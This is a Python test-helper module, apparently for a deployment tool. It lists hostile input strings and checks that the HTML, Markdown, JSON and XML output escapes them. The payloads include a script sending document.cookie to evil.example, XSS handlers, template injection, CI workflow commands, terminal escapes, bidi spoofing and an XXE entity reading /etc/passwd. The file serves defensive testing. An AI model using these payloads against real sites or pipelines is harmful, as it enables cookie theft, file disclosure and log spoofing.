"""Texts that try to be more than text, and what would show that one succeeded."""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree as ET  # our own output

import pytest
from markdown_it import MarkdownIt

MEGABYTE = 1_000_000
TEXTS = {
    "script": "<script>fetch('//evil.example/'+document.cookie)</script>",
    "handler": "\"><img src=x onerror=alert(1)><svg/onload=alert(2)>'",
    "comment": "--><style>*{display:none}</style><!-- ]]></title></textarea></script>",
    "template": "{{ 7*7 }} {% import 'os' as o %} ${7*7} #{7*7}",
    "entity": "&lt;b&gt; &#60;i&#62; &amp;",
    "markdown": "# h\n\n[x](javascript:alert(1)) ![x](https://evil.example/p.png) **b** `c` | d | <b>e</b> ~~f~~",
    "markdown breakout": "`` ` ```\n```\n<details>\n\n- [ ] @octocat #1 https://evil.example www.evil.example\n| a |\n|--|",
    "github": "ok\n::set-output name=x::y\n  ::error::gone\n::add-mask::a\n::stop-commands::t\r::warning::w",
    "wrapped": "a" * 96 + " x ::add-mask::production " + "b " * 40 + "::error::gone",
    "lines of some": "image failed\u2028::add-mask::production\u2029##[error]x",
    "azure pipelines": "##vso[task.setvariable variable=x]y ##[error]z\n##VSO[task.complete result=Failed;]",
    "terminal": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J \b\b\r\x0b\x0c",
    "direction": "abc\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e\u061c",
    "invisible": "a\x00b\ufeffc\u200bd\U000e0041e",
    "surrogate": "a\ud800b\udfffc",
    "rich": "[bold red]x[/] [link=https://evil.example]y[/link] :warning:",
    "xml": "]]><x/>&e; <?php ?> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "spreadsheet": '=HYPERLINK("https://evil.example")',
}
"""By what they try."""
LONG = {"long": "x" * MEGABYTE, "long lines": "y\n" * (MEGABYTE // 2), "long html": "<b>&" * (MEGABYTE // 4)}
"""Texts of a megabyte."""
MEGABYTES = [
    pytest.param(text, id=name, marks=() if name == "long html" else pytest.mark.slow) for name, text in LONG.items()
]

STEERING = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
"""Categories of characters that no output has: controls, and what some readers take for the end of a line."""
_RUNNER = re.compile(r"^\s*::[a-z-]+[ :]|##(vso)?\[", re.IGNORECASE | re.MULTILINE)


def steers_no_terminal(text: str) -> None:
    """Whoever sees ``text`` sees text."""
    controls = {c for c in set(text) if c != "\n" and unicodedata.category(c) in STEERING}
    assert not controls, f"control characters {sorted(map(hex, map(ord, controls)))}"
    text.encode()


def steers_nothing(text: str) -> None:
    """Neither a terminal nor a runner that reads ``text`` as a log does anything."""
    steers_no_terminal(text)
    assert not _RUNNER.search(text), _RUNNER.search(text)


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: set[tuple[str, tuple[str, ...]]] = set()
        self.depth: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add((tag, tuple(name for name, _ in attrs)))


def elements(page: str) -> set[tuple[str, tuple[str, ...]]]:
    """Every element of a page with the names of its attributes."""
    parser = _Elements()
    parser.feed(page)
    parser.close()
    return parser.seen


def is_inert_html(page: str) -> None:
    """Nothing in a page runs, loads or leads anywhere, whatever its texts say."""
    steers_nothing(page)
    for tag, names in elements(page):
        assert tag not in {"script", "img", "iframe", "object", "embed", "link", "base", "form", "textarea", "b", "i"}
        assert not [name for name in names if name.startswith("on") or name in {"src", "srcset", "action"}], (
            tag,
            names,
        )
    assert set(re.findall(r'href="([^"]*)"', page)) <= {"#main"}


def is_small_and_inert_html(page: str) -> None:
    """The same, and no text makes it large."""
    is_inert_html(page)
    assert len(page) < MEGABYTE // 4


LINKED = re.compile(r"(?<![\w\u200b])@\w|(?<!\w)#\d|https?://\w|www\.\w")
"""What GitHub makes a link or a mention of, in rendered Markdown outside code."""


def fits_a_summary(text: str) -> None:
    """GitHub takes it as a step's summary: at most 1 MiB."""
    steers_nothing(text)
    assert len(text.encode()) <= 2**20


def is_inert_markdown(text: str) -> None:
    """Rendered as GitHub does (tables and raw HTML), it holds no element but those of our own texts."""
    fits_a_summary(text)
    shown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)
    for tag, names in elements(shown):
        assert tag in {"h3", "p", "table", "thead", "tbody", "tr", "th", "td", "code", "strong", "ul", "li", "pre"}, tag
        assert set(names) <= {"style"} or (tag, names) == ("code", ("class",)), (tag, names)
    outside = re.sub(r"<code.*?</code>", "", shown, flags=re.DOTALL)
    assert not LINKED.search(outside), "GitHub would link it"


def is_strict_json(text: str) -> None:
    """One document of strict JSON, which no runner takes for a command."""
    steers_nothing(text)

    def refuse(word: str) -> None:
        raise AssertionError(word)

    json.loads(text, parse_constant=refuse)


JUNIT = {"testsuites", "testsuite", "testcase", "failure", "skipped", "error", "properties", "property"}


def is_wellformed_xml(text: str) -> None:
    """XML that every reader takes, with no element but JUnit's."""
    steers_nothing(text)
    root = ET.fromstring(text)  # noqa: S314 - our own output
    assert {each.tag for each in root.iter()} <= JUNIT


Check = Callable[[str], None]
FIXED = frozenset(
    {"at", "started_at", "ended_at", "first", "last", "until", "result", "phase", "outcome", "match", "as_of", "metric"}
)
"""Keys of a record whose values are written by deployer from words or moments of its own."""


def planted(value: Any, text: str, key: str = "", fixed: frozenset[str] = FIXED) -> Any:
    """A record with ``text`` in every place where a text from outside may stand."""
    if isinstance(value, dict):
        return {name: planted(each, text, name, fixed) for name, each in value.items()}
    if isinstance(value, list):
        return [planted(each, text, key, fixed) for each in value]
    return text if isinstance(value, str) and key not in fixed else value
